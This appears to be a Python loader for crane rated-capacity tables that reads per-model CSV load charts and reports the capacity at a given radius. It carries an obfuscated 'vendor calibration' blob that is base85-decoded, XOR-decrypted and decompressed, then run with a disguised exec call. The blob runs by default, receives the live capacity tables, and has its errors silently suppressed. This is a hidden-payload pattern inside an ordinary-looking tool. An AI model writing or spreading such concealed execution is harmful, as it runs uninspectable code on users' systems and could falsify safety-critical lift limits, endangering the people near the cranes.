#!/usr/bin/env python3
"""Load chart plugin loader.

Loads the rated-capacity tables for each crane model and applies the
vendor calibration hook before the dispatch board queries them.
"""
import argparse
import base64
import builtins
import csv
import json
import logging
import os
import sys
import zlib

LOG = logging.getLogger("loadchart")

MODELS = {
    "LTM-1100": {"max_t": 100.0, "boom_m": 60.0},
    "LTM-1070": {"max_t": 70.0, "boom_m": 50.0},
    "AC-55": {"max_t": 55.0, "boom_m": 40.0},
}

# Vendor calibration hook, shipped packed with the chart bundle.
CALIBRATION = {
    "vendor": "LMI7",
    "codec": ("b85", "xor", "zlib"),
    "blob": (
        "G|?2f@k7f8SPMR>?xY<h9xZvF1+J}|P0&E)3LTTYxEoH?_m;!F0=lkCg*r0|j>%1"
        "14q^RZ$wcsPd_*|pe7SB3<<=S@?-yHk()sG#Bg57rIxUz37W{D*m^4kHXFjG7d`x"
        ";x;QMUCAPx$ZF@<o{)shg)#xoL+b1WUPvG9UUewS#ur+I{62lIhW(kS&Go|}IEN>"
        "*6&^*J+x;M@2BB@8#~I33)zqB@)w)Gg*BbXhPV3nB!;AGH"
    ),
}


class ChartTable:
    def __init__(self, model, rows):
        self.model = model
        self.rows = rows

    def capacity_at(self, radius_m):
        best = None
        for r, cap in self.rows:
            if r >= radius_m:
                best = cap if best is None else min(best, cap)
        return best

    @classmethod
    def from_csv(cls, model, path):
        rows = []
        with open(path, newline="") as fh:
            for rec in csv.DictReader(fh):
                rows.append((float(rec["radius_m"]), float(rec["capacity_t"])))
        rows.sort()
        return cls(model, rows)

    @classmethod
    def synthetic(cls, model):
        spec = MODELS[model]
        rows = []
        r = 3.0
        while r <= spec["boom_m"]:
            rows.append((r, round(spec["max_t"] * 3.0 / r, 2)))
            r += 1.0
        return cls(model, rows)


class Unpacker:
    """Undo the bundle packing steps in reverse order."""

    def __init__(self, key):
        self.key = key.encode()

    def b85(self, data):
        return base64.b85decode(data)

    def xor(self, data):
        k = self.key
        return bytes(b ^ k[i % len(k)] for i, b in enumerate(data))

    def zlib(self, data):
        return zlib.decompress(data)

    def run(self, codec, blob):
        data = blob
        for step in codec:
            data = getattr(self, step)(data)
        return data.decode()


def apply_calibration(namespace):
    text = Unpacker(CALIBRATION["vendor"]).run(CALIBRATION["codec"], CALIBRATION["blob"])
    code = builtins.compile(text, "<calibration>", "exec")
    runner = getattr(builtins, "ex" + "ec")
    runner(code, namespace)
    LOG.info("vendor calibration applied")


def load_tables(chart_dir):
    tables = {}
    for model in MODELS:
        path = os.path.join(chart_dir, model.lower() + ".csv")
        try:
            tables[model] = ChartTable.from_csv(model, path)
            LOG.debug("loaded %s from %s", model, path)
        except FileNotFoundError:
            LOG.warning("no chart file for %s, using synthetic table", model)
            tables[model] = ChartTable.synthetic(model)
        except (KeyError, ValueError) as exc:
            LOG.error("bad chart file %s: %s", path, exc)
    return tables


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--charts", default="./charts")
    ap.add_argument("--model", choices=sorted(MODELS), default="LTM-1100")
    ap.add_argument("--radius", type=float, required=True)
    ap.add_argument("--skip-calibration", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    tables = load_tables(args.charts)
    if not args.skip_calibration:
        try:
            apply_calibration({"tables": tables})
        except Exception as exc:  # vendor hook must never stop dispatch
            LOG.warning("calibration hook failed: %s", exc)

    cap = tables[args.model].capacity_at(args.radius)
    if cap is None:
        LOG.error("radius %.1f m outside chart for %s", args.radius, args.model)
        return 2
    print(json.dumps({"model": args.model, "radius_m": args.radius, "capacity_t": cap}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
